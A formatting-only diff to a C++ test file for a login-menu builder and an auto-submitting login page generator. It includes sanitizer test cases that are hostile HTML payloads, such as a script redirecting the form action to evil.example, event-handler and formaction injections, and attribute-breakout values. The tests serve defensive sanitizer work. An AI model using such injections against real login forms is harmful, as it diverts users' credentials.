@@ -24,8 +24,8 @@ TEST(BuildLoginMenu, NumbersOnlyNetworksWithLogins)
 {
     NetworkList networks;
     networks.push_back(Network("A"));
-    networks.push_back(Network("B", {"P"}));
-    networks.push_back(Network("C", {"P"}));
+    networks.push_back(Network("B", { "P" }));
+    networks.push_back(Network("C", { "P" }));
     const LoginMenu menu = BuildLoginMenu(networks);
     ASSERT_EQ(menu.Items.size(), 2u);
     EXPECT_EQ(menu.Items[0].Caption, "[&1]B");
@@ -33,7 +33,7 @@ TEST(BuildLoginMenu, NumbersOnlyNetworksWithLogins)
     EXPECT_TRUE(menu.Items[0].SubItems.empty());
     EXPECT_EQ(menu.Items[1].Caption, "[&2]C");
     EXPECT_TRUE(menu.LoginEnabled);
-    EXPECT_EQ(menu.NetworkChoice, (std::vector<std::string>{"A", "B", "C", std::string(kOtherNetworkName)}));
+    EXPECT_EQ(menu.NetworkChoice, (std::vector<std::string> { "A", "B", "C", std::string(kOtherNetworkName) }));
     EXPECT_EQ(codec::DecodeSjis(kOtherNetworkName), "その他");
 }
 
@@ -46,14 +46,16 @@ TEST(BuildLoginMenu, NoLoginsDisablesTheButton)
     EXPECT_FALSE(menu.LoginEnabled);
     EXPECT_EQ(menu.NetworkChoice.size(), 2u);
     NetworkList none;
-    EXPECT_EQ(BuildLoginMenu(none).NetworkChoice, (std::vector<std::string>{std::string(kOtherNetworkName)}));
+    EXPECT_EQ(BuildLoginMenu(none).NetworkChoice, (std::vector<std::string> { std::string(kOtherNetworkName) }));
 }
 
 TEST(BuildLoginMenu, SeveralLoginsBecomeSubItemsInLoginOrder)
 {
-    const std::string basic = "\x8A\xEE\x96{\x90\xDD\x92\xE8", second = "\x90\xDD\x92\xE8" "2"; // 設定2
+    const std::string basic = "\x8A\xEE\x96{\x90\xDD\x92\xE8",
+                      second = "\x90\xDD\x92\xE8"
+                               "2"; // 設定2
     NetworkList networks;
-    networks.push_back(Network("A", {basic, second}));
+    networks.push_back(Network("A", { basic, second }));
     const LoginMenu menu = BuildLoginMenu(networks);
     ASSERT_EQ(menu.Items.size(), 1u);
     EXPECT_EQ(menu.Items[0].Login, nullptr);
@@ -67,7 +69,7 @@ TEST(BuildLoginMenu, TenthItemIsNumberedTen)
 {
     NetworkList networks;
     for (int i = 0; i < 11; ++i)
-        networks.push_back(Network("N" + std::to_string(i), {"P"}));
+        networks.push_back(Network("N" + std::to_string(i), { "P" }));
     const LoginMenu menu = BuildLoginMenu(networks);
     ASSERT_EQ(menu.Items.size(), 11u);
     EXPECT_EQ(menu.Items[9].Caption, "[&10]N9");
@@ -93,15 +95,18 @@ TEST(LoginPage, SevenLinesWithTheStoredValues)
     network->FieldOthers = "<input type=hidden name=x value=1><input type=hidden name=y value=2>";
     TLoginInfo& login = network->SetLogin("P", "me", "secret");
     const std::string page = BuildLoginPage(login);
-    EXPECT_EQ(page, "<html><head><meta charset=\"Shift_JIS\"></head><body><form name=fm method=post action=\"https://a.example/login\">\r\n"
-                    "<input type=hidden name=uid value=\"me\">\r\n"
-                    "<input type=hidden name=pwd value=\"secret\">\r\n"
-                    "<input type=hidden name=x value=1><input type=hidden name=y value=2>\r\n"
-                    "</form><script defer>\r\n"
-                    "document.fm.submit();\r\n"
-                    "</script><noscript>"
-                    "JavaScript\x82\xCC\x90\xDD\x92\xE8\x82\xF0\x83I\x83\x93\x82\xC9\x82\xB5\x82\xC4\x89\xBA\x82\xB3"
-                    "\x82\xA2\x81" "B</NOSCRIPT></body></html>\r\n");
+    EXPECT_EQ(page,
+        "<html><head><meta charset=\"Shift_JIS\"></head><body><form name=fm method=post "
+        "action=\"https://a.example/login\">\r\n"
+        "<input type=hidden name=uid value=\"me\">\r\n"
+        "<input type=hidden name=pwd value=\"secret\">\r\n"
+        "<input type=hidden name=x value=1><input type=hidden name=y value=2>\r\n"
+        "</form><script defer>\r\n"
+        "document.fm.submit();\r\n"
+        "</script><noscript>"
+        "JavaScript\x82\xCC\x90\xDD\x92\xE8\x82\xF0\x83I\x83\x93\x82\xC9\x82\xB5\x82\xC4\x89\xBA\x82\xB3"
+        "\x82\xA2\x81"
+        "B</NOSCRIPT></body></html>\r\n");
     EXPECT_NE(codec::DecodeSjis(page).find("JavaScriptの設定をオンにして下さい。"), std::string::npos);
 
     network->FieldOthers.clear();
@@ -137,38 +142,37 @@ TEST(LoginPage, FieldOthersKeepsOnlyHiddenInputs)
         std::vector<std::string> dropped;
     };
     const std::vector<Case> cases = {
-        {"PlainInputsAsTheyWere",
-         "<input type=hidden name=x value=1><input type=hidden name=y value=2>",
-         "<input type=hidden name=x value=1><input type=hidden name=y value=2>",
-         {}},
-        {"QuotesCaseAndReferences", "<INPUT TYPE=\"Hidden\" NAME='tok' VALUE=\"a&amp;b&c\" />",
-         "<input type=hidden name=tok value=\"a&amp;b&amp;c\">", {}},
-        {"Script", "<script>document.fm.action='https://evil.example/'</script>", "",
-         {"<script>document.fm.action='https://evil.example/'</script>"}},
-        {"MarkupInsideAScriptIsNotAnInput", "<script>var s=\"<input type=hidden name=z value=1>\";</script>", "",
-         {"<script>var s=\"<input type=hidden name=z value=1>\";</script>"}},
-        {"EventHandlerAndFormActionOfAHiddenInput",
-         "<input type=hidden name=a value=1 onfocus=\"steal()\" formaction=https://evil.example/>",
-         "<input type=hidden name=a value=1>",
-         {"<input type=hidden name=a value=1 onfocus=\"steal()\" formaction=https://evil.example/>"}},
-        {"OtherInputsAndElements",
-         "<input type=text name=t value=1><input type=hidden value=1><img src=x onerror=alert(1)>"
-         "<form action=https://evil.example/><input type=hidden name=k value=v></form>",
-         "<input type=hidden name=k value=v>",
-         {"<input type=text name=t value=1>", "<input type=hidden value=1>", "<img src=x onerror=alert(1)>",
-          "<form action=https://evil.example/>", "</form>"}},
-        {"ValuesThatTryToBreakOut",
-         "<input type=hidden name='a\"><script>' value='\"><script>x()</script>'>",
-         "<input type=hidden name=\"a&quot;&gt;&lt;script&gt;\" value=\"&quot;&gt;&lt;script&gt;x()&lt;/script&gt;\">",
-         {}},
-        {"TextAndComments", "before <input type=hidden name=a value=1> <!-- <input type=hidden name=c value=2> --> after",
-         "<input type=hidden name=a value=1>",
-         {"before", "<!-- <input type=hidden name=c value=2> -->", "after"}},
-        {"UnterminatedTag", "<input type=hidden name=a value=1><input type=hidden name=b value=2",
-         "<input type=hidden name=a value=1>", {"<input type=hidden name=b value=2"}},
-        {"ShiftJisValue", "<input type=hidden name=n value=\"\x95\x5C\">", "<input type=hidden name=n value=\"\x95\x5C\">",
-         {}},
-        {"Empty", "", "", {}},
+        { "PlainInputsAsTheyWere", "<input type=hidden name=x value=1><input type=hidden name=y value=2>",
+            "<input type=hidden name=x value=1><input type=hidden name=y value=2>", {} },
+        { "QuotesCaseAndReferences", "<INPUT TYPE=\"Hidden\" NAME='tok' VALUE=\"a&amp;b&c\" />",
+            "<input type=hidden name=tok value=\"a&amp;b&amp;c\">", {} },
+        { "Script", "<script>document.fm.action='https://evil.example/'</script>", "",
+            { "<script>document.fm.action='https://evil.example/'</script>" } },
+        { "MarkupInsideAScriptIsNotAnInput", "<script>var s=\"<input type=hidden name=z value=1>\";</script>", "",
+            { "<script>var s=\"<input type=hidden name=z value=1>\";</script>" } },
+        { "EventHandlerAndFormActionOfAHiddenInput",
+            "<input type=hidden name=a value=1 onfocus=\"steal()\" formaction=https://evil.example/>",
+            "<input type=hidden name=a value=1>",
+            { "<input type=hidden name=a value=1 onfocus=\"steal()\" formaction=https://evil.example/>" } },
+        { "OtherInputsAndElements",
+            "<input type=text name=t value=1><input type=hidden value=1><img src=x onerror=alert(1)>"
+            "<form action=https://evil.example/><input type=hidden name=k value=v></form>",
+            "<input type=hidden name=k value=v>",
+            { "<input type=text name=t value=1>", "<input type=hidden value=1>", "<img src=x onerror=alert(1)>",
+                "<form action=https://evil.example/>", "</form>" } },
+        { "ValuesThatTryToBreakOut", "<input type=hidden name='a\"><script>' value='\"><script>x()</script>'>",
+            "<input type=hidden name=\"a&quot;&gt;&lt;script&gt;\" "
+            "value=\"&quot;&gt;&lt;script&gt;x()&lt;/script&gt;\">",
+            {} },
+        { "TextAndComments",
+            "before <input type=hidden name=a value=1> <!-- <input type=hidden name=c value=2> --> after",
+            "<input type=hidden name=a value=1>",
+            { "before", "<!-- <input type=hidden name=c value=2> -->", "after" } },
+        { "UnterminatedTag", "<input type=hidden name=a value=1><input type=hidden name=b value=2",
+            "<input type=hidden name=a value=1>", { "<input type=hidden name=b value=2" } },
+        { "ShiftJisValue", "<input type=hidden name=n value=\"\x95\x5C\">",
+            "<input type=hidden name=n value=\"\x95\x5C\">", {} },
+        { "Empty", "", "", {} },
     };
     for (const Case& c : cases) {
         SCOPED_TRACE(c.name);
@@ -197,14 +201,14 @@ TEST(LoginPage, FieldNamesFromTheDefinitionsCannotAddMarkup)
     EXPECT_EQ(page.find("<script>x"), std::string::npos) << page;
     EXPECT_NE(page.find("<input type=hidden name=\"u&quot;&gt;&lt;script&gt;x()&lt;/script&gt;&lt;x a=&quot;\" "
                         "value=\"me\">"),
-              std::string::npos)
+        std::string::npos)
         << page;
     EXPECT_NE(page.find("<input type=hidden name=pw value=\"secret\">"), std::string::npos);
 }
 
 mode_t ModeOf(const std::string& path)
 {
-    struct stat st {};
+    struct stat st { };
     ::stat(path.c_str(), &st);
     return st.st_mode & 0777;
 }
@@ -226,14 +230,14 @@ TEST(OpenLogin, WritesAPrivatePageThenOpensIt)
     ASSERT_TRUE(WriteFileAtomically(path, "an older and much longer page content").ok);
     ::chmod(path.c_str(), 0644);
 
-    auto network = Network("A", {"P"});
+    auto network = Network("A", { "P" });
     RecordingBrowser browser;
     ASSERT_TRUE(OpenLogin(*network->FindLogin("P"), path, browser).ok);
     std::string written;
     ASSERT_TRUE(ReadWholeFile(path, written).ok);
     EXPECT_EQ(written, BuildLoginPage(*network->FindLogin("P")));
     EXPECT_EQ(ModeOf(path), 0600u);
-    EXPECT_EQ(browser.opened, (std::vector<std::string>{path}));
+    EXPECT_EQ(browser.opened, (std::vector<std::string> { path }));
 }
 
 // The page holds a password: a link at its name (planted, or left over) is
@@ -247,14 +251,14 @@ TEST(OpenLogin, ALinkAtThePageNameIsReplacedNeverFollowed)
     const std::string path = dir.file("pwh1.html");
     ASSERT_EQ(::symlink(victim.c_str(), path.c_str()), 0);
 
-    auto network = Network("A", {"P"});
+    auto network = Network("A", { "P" });
     RecordingBrowser browser;
     ASSERT_TRUE(OpenLogin(*network->FindLogin("P"), path, browser).ok);
     std::string written;
     ASSERT_TRUE(ReadWholeFile(victim, written).ok);
     EXPECT_EQ(written, "precious");
     EXPECT_EQ(ModeOf(victim), 0644u);
-    struct stat st {};
+    struct stat st { };
     ASSERT_EQ(::lstat(path.c_str(), &st), 0);
     EXPECT_TRUE(S_ISREG(st.st_mode));
     EXPECT_EQ(st.st_mode & 0777, 0600u);
@@ -262,7 +266,7 @@ TEST(OpenLogin, ALinkAtThePageNameIsReplacedNeverFollowed)
 
 TEST(OpenLogin, AFailedWriteOpensNoWindow)
 {
-    auto network = Network("A", {"P"});
+    auto network = Network("A", { "P" });
     RecordingBrowser browser;
     EXPECT_FALSE(OpenLogin(*network->FindLogin("P"), "/nonexistent-folder/x/pw.html", browser).ok);
     EXPECT_TRUE(browser.opened.empty());
